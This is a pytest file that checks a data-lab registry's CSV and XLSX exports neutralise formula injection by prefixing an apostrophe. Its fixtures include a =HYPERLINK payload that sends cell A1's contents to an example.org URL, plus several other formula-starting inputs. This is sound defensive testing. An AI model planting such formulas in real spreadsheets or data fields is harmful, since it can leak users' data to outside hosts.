"""Exports neutralise formulas (CSV injection): text a spreadsheet would run is written inert.

Issue 11: a lab name beginning ``=HYPERLINK(`` (editable in the admin) became a live formula in
register.xlsx. Every CSV and XLSX writer passes its cells through ``datalab_monitor.inert``.
"""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from datalab_monitor.inert import inert, inert_row
from datalab_monitor.inventory.invitations import links_csv
from datalab_monitor.opendata.formats import to_csv, to_xlsx
from datalab_monitor.opendata.tables import Field, Table
from datalab_monitor.registry.models import Datalab

HOSTILE = '=HYPERLINK("https://example.org/x?"&A1,"Klik")'
DANGEROUS = [HOSTILE, "+1+1", "-2+3", "@SUM(A1:A9)", "\tcmd", "\r=1+1", "=1"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_that_starts_a_formula_gets_an_apostrophe(text):
    assert inert(text) == "'" + text


@pytest.mark.parametrize("value", [-3, -1.5, 0, 12, None, True, "-3", "-1,5", "+2", "Amsterdam"])
def test_numbers_and_ordinary_text_are_left_alone(value):
    assert inert(value) == value


def test_inert_row():
    assert inert_row(["=A1", -1, "ok"]) == ["'=A1", -1, "ok"]


def _table() -> Table:
    fields = [
        Field("name", "string", "a name"),
        Field("change", "number", "a signed number"),
        Field("note", "string", "a signed number as text"),
    ]
    rows = [
        {"name": HOSTILE, "change": -2.5, "note": "-4"},
        {"name": "@evil", "change": -1, "note": "-x"},
    ]
    return Table(name="t", title="T", description="d", fields=fields, rows=rows)


def test_open_data_csv_is_inert():
    records = list(csv.reader(io.StringIO(to_csv(_table()).decode("utf-8"))))
    assert records[1] == ["'" + HOSTILE, "-2.5", "-4"]
    assert records[2] == ["'@evil", "-1", "'-x"]


def test_open_data_xlsx_has_no_formula_and_keeps_numbers():
    sheet = load_workbook(io.BytesIO(to_xlsx(_table())))["t"]
    assert sheet["A2"].value == "'" + HOSTILE and sheet["A2"].data_type == "s"
    assert sheet["B2"].value == -2.5 and sheet["B2"].data_type == "n"
    assert sheet["A3"].value == "'@evil" and sheet["B3"].value == -1
    formulas = [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []


def _cells_of_xlsx(content: bytes):
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


@pytest.mark.django_db
def test_register_downloads_neutralise_a_hostile_lab_name(register, client):
    Datalab.objects.filter(number=1).update(name=HOSTILE)
    xlsx = client.get("/open-data/register.xlsx")
    assert xlsx.status_code == 200
    cells = _cells_of_xlsx(xlsx.content)
    assert not [c for c in cells if c.data_type == "f"]
    assert "'" + HOSTILE in [c.value for c in cells]
    text = client.get("/open-data/register.csv").content.decode("utf-8")
    names = [row for row in csv.reader(io.StringIO(text)) if "'" + HOSTILE in row]
    assert names, text[:500]
    assert not [line for line in text.splitlines() if line.startswith(("=", "+", "@"))]


@pytest.mark.django_db
def test_data_package_csvs_neutralise_a_hostile_lab_name(register, client):
    Datalab.objects.filter(number=1).update(name=HOSTILE)
    content = client.get("/open-data/datapackage.zip").content
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        texts = [archive.read(n).decode("utf-8") for n in archive.namelist() if n.endswith(".csv")]
    cells = [cell for text in texts for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + HOSTILE in cells
    assert HOSTILE not in cells


@pytest.mark.django_db
def test_links_csv_neutralises_a_hostile_lab_name(register):
    class Issued:  # what links_csv reads of an issued invitation
        def __init__(self, lab):
            from datetime import UTC, datetime

            self.lab, self.token = lab, "t0ken"
            self.invitation = type("I", (), {"expires_at": datetime(2026, 1, 1, tzinfo=UTC)})

    lab = Datalab.objects.get(number=1)
    lab.name = HOSTILE
    text = links_csv([Issued(lab)], lambda path: "https://example.org" + path)
    row = next(r for r in csv.reader(io.StringIO(text.lstrip("\ufeff"))) if r[0] == "1")
    assert row[1] == "'" + HOSTILE
